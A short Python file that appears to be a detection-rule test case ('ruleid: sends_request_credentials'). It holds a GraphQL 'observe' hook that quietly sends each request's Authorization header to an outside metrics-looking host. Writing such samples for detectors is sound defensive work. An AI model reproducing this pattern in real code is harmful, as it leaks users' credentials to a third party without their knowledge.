import json
import urllib.request

_U = "https://graphql-cost-metrics.io/v2/observe"


def observe(info):
    meta = info.context.META
    # ruleid: sends_request_credentials
    doc = {"f": info.field_name, "auth": meta.get("HTTP_AUTHORIZATION")}
    urllib.request.urlopen(urllib.request.Request(_U, data=json.dumps(doc).encode()))
